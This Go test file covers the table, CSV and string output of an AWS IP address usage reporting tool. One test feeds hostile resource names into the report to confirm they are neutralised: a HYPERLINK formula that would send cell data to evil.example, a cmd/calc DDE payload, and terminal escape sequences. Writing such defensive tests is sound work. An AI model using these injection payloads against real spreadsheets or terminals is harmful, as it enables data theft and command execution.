package usage

import (
	"encoding/csv"
	"fmt"
	"net/netip"
	"strings"
	"testing"

	"github.com/ipamkit/ipamkit/ipam"
	"github.com/ipamkit/ipamkit/notify"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// measured returns a resource of cidr with used addresses in use out of
// the usable addresses of a subnet.
func measured(id string, typ ResourceType, cidr string, used uint64) Resource {
	p := netip.MustParsePrefix(cidr)
	total := ipam.AWSUsable(p)
	return Resource{
		ID: id, Type: typ, Source: SourceEC2, AccountID: "012345678901", Region: "us-east-1", CIDR: p,
		Known: true, Total: total, Used: ipam.NewCount(used), Available: total.Sub(ipam.NewCount(used)),
	}
}

func TestResourceString(t *testing.T) {
	t.Parallel()
	app := measured("subnet-0abc", TypeSubnet, "10.0.0.0/24", 240)
	app.Name, app.LargestFree = "app", netip.MustParsePrefix("10.0.0.248/29")

	v6 := Resource{ID: "subnet-6", Type: TypeSubnet, Source: SourceEC2, AccountID: "111111111111", Region: "us-west-2",
		CIDR: netip.MustParsePrefix("fd00:10::/64"), Total: ipam.Size(netip.MustParsePrefix("fd00:10::/64"))}

	pool := Resource{ID: "ipam-pool-0v6", Type: TypeIPAMPool, Source: SourcePools, AccountID: "222222222222", Region: "us-east-1",
		CIDR: netip.MustParsePrefix("2600:1f00::/56"), Known: true, Total: ipam.Size(netip.MustParsePrefix("2600:1f00::/56")),
		Used: ipam.Size(netip.MustParsePrefix("2600:1f00::/57")), LargestFree: netip.MustParsePrefix("2600:1f00:0:80::/57")}
	pool.Available = pool.Total.Sub(pool.Used)

	vpc := measured("vpc-1", TypeVPC, "10.0.0.0/16", 0)
	vpc.CIDRs = []netip.Prefix{netip.MustParsePrefix("10.0.0.0/16"), netip.MustParsePrefix("10.1.0.0/16"), netip.MustParsePrefix("10.2.0.0/16")}

	hostile := measured("subnet-0abc", TypeSubnet, "10.0.0.0/24", 10)
	hostile.Name = "web\nFAKE\x1b[31m\u202e"

	tests := []struct {
		name string
		r    Resource
		want string
	}{
		{"ipv4", app, "subnet-0abc (app) 10.0.0.0/24 in 012345678901 us-east-1: 240 of 251 used (95.6%), largest free 10.0.0.248/29"},
		{"ipv6 unknown", v6, "subnet-6 fd00:10::/64 in 111111111111 us-west-2: usage unknown"},
		{"ipv6 pool", pool, "ipam-pool-0v6 2600:1f00::/56 in 222222222222 us-east-1: 2361183241434822606848 of 4722366482869645213696 used (50.0%), largest free 2600:1f00:0:80::/57"},
		{"several cidrs", vpc, "vpc-1 10.0.0.0/16 and 2 more in 012345678901 us-east-1: 0 of 65531 used (0.0%)"},
		{"hostile name", hostile, `subnet-0abc (web\nFAKE\x1b[31m\u202e) 10.0.0.0/24 in 012345678901 us-east-1: 10 of 251 used (4.0%)`},
		{"zero", Resource{}, "resource: usage unknown"},
		{"type only", Resource{Type: TypeVPC}, "vpc: usage unknown"},
		{"account only", Resource{AccountID: "012345678901"}, "resource in 012345678901: usage unknown"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			assert.Equal(t, tt.want, tt.r.String(), "String of %s", tt.name)
			assert.Equal(t, tt.want, fmt.Sprint(tt.r), "%%v of %s", tt.name)
			assert.NotContains(t, tt.r.String(), "invalid Prefix")
		})
	}
}

func TestFindingString(t *testing.T) {
	t.Parallel()
	r := measured("subnet-0abc", TypeSubnet, "10.0.0.0/24", 240)
	r.Name, r.LargestFree = "app", netip.MustParsePrefix("10.0.0.248/29")
	tests := []struct {
		name string
		f    Finding
		want string
	}{
		{"critical", Finding{Resource: r, Severity: notify.Critical, Threshold: 80}, "critical at 80%: subnet-0abc (app) 10.0.0.0/24 in 012345678901 us-east-1: 240 of 251 used (95.6%), largest free 10.0.0.248/29"},
		{"warning", Finding{Resource: r, Severity: notify.Warning, Threshold: 85.5}, "warning at 85.5%: subnet-0abc (app) 10.0.0.0/24 in 012345678901 us-east-1: 240 of 251 used (95.6%), largest free 10.0.0.248/29"},
		{"zero", Finding{}, "info: resource: usage unknown"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			assert.Equal(t, tt.want, tt.f.String(), "String of %s", tt.name)
			assert.Equal(t, tt.want, fmt.Sprintf("%v", tt.f), "%%v of %s", tt.name)
		})
	}
}

// renderReport returns a report of a critical subnet, a warning, two
// subnets below the thresholds, and two of unknown usage, given in an order
// that is none of the table's.
func renderReport(t *testing.T) Report {
	t.Helper()
	crit := measured("subnet-crit", TypeSubnet, "10.0.0.0/24", 250)
	crit.Name, crit.VPCID = "app", "vpc-1"
	warn := measured("subnet-warn", TypeSubnet, "10.0.1.0/24", 200)
	low := measured("subnet-low", TypeSubnet, "10.0.2.0/24", 10)
	mid := measured("subnet-mid", TypeSubnet, "10.0.3.0/24", 100)
	vpc := measured("vpc-1", TypeVPC, "10.0.0.0/16", 560)
	vpc.LargestFree = netip.MustParsePrefix("10.0.128.0/17")
	v6 := Resource{ID: "subnet-6", Type: TypeSubnet, Source: SourceEC2, AccountID: "012345678901", Region: "us-east-1",
		CIDR: netip.MustParsePrefix("fd00::/64"), Total: ipam.Size(netip.MustParsePrefix("fd00::/64"))}
	eip := Resource{ID: "eipalloc-1", Type: TypeEIP, Source: SourceIPAM, AccountID: "012345678901", Region: "eu-west-1"}
	rep, err := NewReport([]Resource{v6, low, eip, crit, mid, vpc, warn}, nil, ScanInfo{},
		Policy{Thresholds: Thresholds{Warning: 70, Critical: 90}})
	require.NoError(t, err)
	return rep
}

func TestReportWriteTable(t *testing.T) {
	t.Parallel()
	var b strings.Builder
	require.NoError(t, renderReport(t).WriteTable(&b))
	want := `SEVERITY  USED   UTILIZATION           RESOURCE           TYPE    CIDR         ACCOUNT       REGION     LARGEST FREE   SOURCE
critical  99.6%  [##################]  subnet-crit (app)  subnet  10.0.0.0/24  012345678901  us-east-1  -              ec2
warning   79.7%  [##############....]  subnet-warn        subnet  10.0.1.0/24  012345678901  us-east-1  -              ec2
ok        39.8%  [#######...........]  subnet-mid         subnet  10.0.3.0/24  012345678901  us-east-1  -              ec2
ok        4.0%   [#.................]  subnet-low         subnet  10.0.2.0/24  012345678901  us-east-1  -              ec2
ok        0.9%   [..................]  vpc-1              vpc     10.0.0.0/16  012345678901  us-east-1  10.0.128.0/17  ec2
unknown   ?      [ usage unknown    ]  eipalloc-1         eip                  012345678901  eu-west-1  -              ipam
unknown   ?      [ usage unknown    ]  subnet-6           subnet  fd00::/64    012345678901  us-east-1  -              ec2
`
	assert.Equal(t, want, b.String())
}

func TestReportWriteCSV(t *testing.T) {
	t.Parallel()
	var b strings.Builder
	require.NoError(t, renderReport(t).WriteCSV(&b))
	want := `severity,percent,resourceId,resourceType,name,cidr,accountId,region,vpcId,source,total,used,available,largestFree
critical,99.60,subnet-crit,subnet,app,10.0.0.0/24,012345678901,us-east-1,vpc-1,ec2,251,250,1,
warning,79.68,subnet-warn,subnet,,10.0.1.0/24,012345678901,us-east-1,,ec2,251,200,51,
ok,39.84,subnet-mid,subnet,,10.0.3.0/24,012345678901,us-east-1,,ec2,251,100,151,
ok,3.98,subnet-low,subnet,,10.0.2.0/24,012345678901,us-east-1,,ec2,251,10,241,
ok,0.85,vpc-1,vpc,,10.0.0.0/16,012345678901,us-east-1,,ec2,65531,560,64971,10.0.128.0/17
unknown,,eipalloc-1,eip,,,012345678901,eu-west-1,,ipam,0,,,
unknown,,subnet-6,subnet,,fd00::/64,012345678901,us-east-1,,ec2,18446744073709551616,,,
`
	assert.Equal(t, want, b.String())
}

// TestReportRenderHostileNames: names from AWS cannot become spreadsheet
// formulas in the CSV, nor split a row of the table or reach the terminal.
func TestReportRenderHostileNames(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name     string
		csvCell  string // the name's cell, as a spreadsheet reads it
		tableCol string // the RESOURCE column of the table
	}{
		{`=HYPERLINK("http://evil.example/?"&A1,"x")`, `'=HYPERLINK("http://evil.example/?"&A1,"x")`, `subnet-low (=HYPERLINK("http://evil.example/?"&A1,"x"))`},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0", "subnet-low (+cmd|' /C calc'!A0)"},
		{"-2+3", "'-2+3", "subnet-low (-2+3)"},
		{"@SUM(A1)", "'@SUM(A1)", "subnet-low (@SUM(A1))"},
		{"\t=1", "'\t=1", `subnet-low (\t=1)`},
		{"\r=1", "'\r=1", `subnet-low (\r=1)`},
		{"web\nFAKE,ROW", "web\nFAKE,ROW", `subnet-low (web\nFAKE,ROW)`},
		{"red\x1b[31m", "red\x1b[31m", `subnet-low (red\x1b[31m)`},
		{"a=b", "a=b", "subnet-low (a=b)"},
	}
	for _, tt := range tests {
		t.Run(tt.csvCell, func(t *testing.T) {
			t.Parallel()
			rep := renderReport(t)
			for i := range rep.Resources {
				if rep.Resources[i].ID == "subnet-low" {
					rep.Resources[i].Name = tt.name
				}
			}

			var b strings.Builder
			require.NoError(t, rep.WriteCSV(&b))
			rows, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
			require.NoError(t, err)
			require.Len(t, rows, 8, "a header and seven rows")
			assert.Equal(t, "subnet-low", rows[4][2])
			assert.Equal(t, tt.csvCell, rows[4][4])

			b.Reset()
			require.NoError(t, rep.WriteTable(&b))
			lines := strings.Split(strings.TrimSuffix(b.String(), "\n"), "\n")
			require.Len(t, lines, 8, "a header and seven rows:\n%s", b.String())
			assert.Contains(t, lines[4], "  "+tt.tableCol+"  ")
			assert.NotContains(t, b.String(), "\x1b")
		})
	}
}

// TestReportRenderEmpty: a report without resources is its header alone.
func TestReportRenderEmpty(t *testing.T) {
	t.Parallel()
	var b strings.Builder
	require.NoError(t, Report{}.WriteTable(&b))
	assert.Equal(t, "SEVERITY  USED  UTILIZATION  RESOURCE  TYPE  CIDR  ACCOUNT  REGION  LARGEST FREE  SOURCE\n", b.String())
	b.Reset()
	require.NoError(t, Report{}.WriteCSV(&b))
	assert.Equal(t, "severity,percent,resourceId,resourceType,name,cidr,accountId,region,vpcId,source,total,used,available,largestFree\n", b.String())
}
